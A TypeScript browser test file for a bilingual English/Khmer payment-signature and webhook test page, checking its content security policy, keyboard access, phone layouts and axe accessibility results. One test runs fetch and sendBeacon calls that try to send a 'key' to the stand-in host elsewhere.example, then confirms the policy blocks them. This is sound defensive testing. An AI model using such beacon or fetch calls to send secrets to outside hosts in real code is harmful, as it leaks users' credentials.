// The page as a whole: it sends nothing, and works by keyboard, on a phone, and with a screen reader.
import axe, { type AxeResults } from "axe-core";
import type { Page } from "playwright-core";
import { describe, expect } from "vitest";
import { PAGE, card, fill, openBench, useBrowser, walk } from "./support.ts";

const BENCHES = {
  en: ["Signature", "Webhook", "Simulator"],
  km: ["ហត្ថលេខា", "Webhook", "ការធ្វើត្រាប់"],
} as const;

/** A bill with a wrong type, a member without a field, a hash, and a secret. */
const PASTED = { ref_id: 7, date: "2026-01-31T18:30:00Z", note: "x", hash: "00", payment_method_token: "x" };

/** Fills each tab with content. */
async function busy(page: Page, bench: number): Promise<void> {
  for (const fold of await page.locator("summary").filter({ visible: true }).all()) await fold.click();
  if (bench === 0) {
    await page.locator(".paste textarea").fill(JSON.stringify(PASTED));
    const bill = { ref_id: "INV-1", customer_sync_code: "0-ភ្នំពេញ", settlement_to: "S", currency: "KHR" };
    await fill(card(page, "bill"), { ...bill, total_amount: "40000", due_date: "2025-01-01T00:00:00Z" });
    await card(page, "comparison").getByRole("button").first().click();
  } else if (bench === 1) {
    await card(page, "arrived").locator("select").nth(1).selectOption("duplicate_key");
  } else {
    await card(page, "stories").getByRole("button").nth(1).click();
    for (const message of await card(page, "diagram").locator("summary").all()) await message.click();
  }
}

describe("page", () => {
  useBrowser();

  walk("is one file that cannot send anything", {}, async (page, complaints) => {
    const policy = (await page.locator("meta[http-equiv]").getAttribute("content")) ?? "";
    expect(policy).toMatch(
      /^default-src 'none'; script-src 'sha256-\S+' 'wasm-unsafe-eval'; style-src 'sha256-\S+';/,
    );
    expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
    expect(await page.getByRole("note").textContent()).toContain("Only test keys belong here.");
    // Requests that a script might try. The policy stops each one before anything is sent.
    const stopped = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) =>
        directives.push(event.effectiveDirective),
      );
      await fetch("https://elsewhere.example/").catch(() => undefined);
      navigator.sendBeacon("https://elsewhere.example/", "key");
      await new Promise((done) => setTimeout(done, 100));
      return directives;
    });
    expect(stopped).toEqual(["connect-src", "connect-src"]);
    expect(complaints.splice(0).every((line) => line.includes("Content Security Policy"))).toBe(true);
  });

  walk("keeps tab and language in the address, and nothing else", { language: "km" }, async (page) => {
    await fill(card(page, "key"), { hashToken: "typed-token" });
    expect(await page.getByRole("tab").allTextContents()).toEqual([...BENCHES.km]);
    expect(page.url()).toBe(PAGE);
    await page.getByRole("button", { name: "English" }).click();
    expect(await page.getByRole("tab").allTextContents()).toEqual([...BENCHES.en]);
    await openBench(page, "Webhook");
    expect(page.url()).toBe(`${PAGE}#webhook/en`);
    await page.goto(`${PAGE}#simulator/km`);
    await page.getByRole("tab", { name: "ការធ្វើត្រាប់", selected: true }).waitFor();
    expect(await page.locator("html").getAttribute("lang")).toBe("km");
  });

  walk("can be used by keyboard alone, and the focus is always seen", {}, async (page) => {
    const tabTo = async (name: string) => {
      for (let presses = 0; presses < 90; presses += 1) {
        await page.keyboard.press("Tab");
        const focus = await page.evaluate(() => {
          const element = document.activeElement ?? document.body;
          const label = element instanceof HTMLInputElement ? element.labels?.[0] : element;
          return {
            name: label?.textContent ?? "",
            outline: Number.parseFloat(getComputedStyle(element).outlineWidth),
          };
        });
        expect(focus.outline, `the focus on ${focus.name}`).toBeGreaterThanOrEqual(2);
        if (focus.name.startsWith(name)) return;
      }
      throw new Error(`no way to ${name}`);
    };
    await tabTo("total_amount");
    await page.keyboard.type("25");
    expect(await card(page, "signing-string").textContent()).toContain("total_amount25customer");
    await page.getByRole("tab", { name: "Signature" }).focus();
    for (const [key, name] of [
      ["ArrowRight", "Webhook"],
      ["End", "Simulator"],
      ["ArrowRight", "Signature"],
    ] as const) {
      await page.keyboard.press(key);
      expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(name);
      expect(await page.getByRole("tabpanel", { name }).isVisible()).toBe(true);
    }
  });

  for (const [language, width] of [
    ["en", 320],
    ["en", 360],
    ["en", 412],
    ["km", 360],
  ] as const) {
    walk(
      `fits on a phone, ${width} pixels wide (${language})`,
      { language, width, height: 740 },
      async (page) => {
        for (const [at, bench] of BENCHES[language].entries()) {
          await openBench(page, bench);
          await busy(page, at);
          const scroll = await page.evaluate(() => document.body.scrollWidth);
          expect(scroll, bench).toBeLessThanOrEqual(width);
          // Khmer has no spaces between words.
          if (language === "en") expect(await narrowBoxes(page), bench).toEqual([]);
        }
        await page.locator("#tab-signature").click();
        await page.locator(".paste textarea").fill(JSON.stringify(PASTED));
        await page.waitForTimeout(100);
        const top = await card(page, "comparison").evaluate((one) => one.getBoundingClientRect().top);
        expect(top).toBeCloseTo(12, 0);
      },
    );
  }

  walk("the control: two columns on a phone are narrower", { width: 320, height: 740 }, async (page) => {
    await openBench(page, "Webhook");
    const style = ".payload > div { grid-template-columns: 17.5rem minmax(0, 1fr) !important }";
    await page.locator(".payload > div").first().waitFor();
    await page.evaluate((text) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(text);
      document.adoptedStyleSheets = [sheet];
    }, style);
    expect(await narrowBoxes(page)).not.toEqual([]);
  });

  for (const [language, scheme] of [
    ["en", "light"],
    ["km", "dark"],
  ] as const) {
    walk(`has nothing that axe objects to (${language}, ${scheme})`, { language, scheme }, async (page) => {
      await page.evaluate(axe.source);
      for (const [at, bench] of BENCHES[language].entries()) {
        await openBench(page, bench);
        expect(await objections(page), bench).toEqual([]);
        await busy(page, at);
        expect(await objections(page), `${bench}, busy`).toEqual([]);
      }
    });
  }
});

/** Texts whose box breaks them after less than eight letters. */
async function narrowBoxes(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const LETTERS = 8;
    const isNarrow = (element: Element): boolean => {
      const own = [...element.childNodes].filter(({ nodeType }) => nodeType === Node.TEXT_NODE);
      const words = own.flatMap(({ textContent }) => (textContent ?? "").trim().split(/\s+/));
      if (!words.some((word) => word.length > LETTERS)) return false;
      const { display, fontSize } = getComputedStyle(element);
      const box = display === "inline" ? element.parentElement! : element;
      const width = box.getBoundingClientRect().width;
      // Half of the font's size is about the width of a letter.
      return width < LETTERS * Number.parseFloat(fontSize) * 0.5;
    };
    const seen = [...document.querySelectorAll("body *")].filter(
      (one) => one.checkVisibility() && !one.closest(".unseen"),
    );
    return seen
      .filter(isNarrow)
      .map((one) => `${one.className || one.tagName}: ${one.textContent?.slice(0, 40)}`);
  });
}

/** Every rule of axe-core, including best practices. */
async function objections(page: Page): Promise<string[]> {
  const { violations, passes } = await page.evaluate(async (): Promise<AxeResults> => {
    const { axe } = globalThis as unknown as { axe: { run: () => Promise<AxeResults> } };
    return axe.run();
  });
  expect(passes.length).toBeGreaterThan(20);
  return violations.flatMap(({ id, nodes }) =>
    nodes.map(({ html, failureSummary }) => `${id}: ${html} ${failureSummary}`),
  );
}
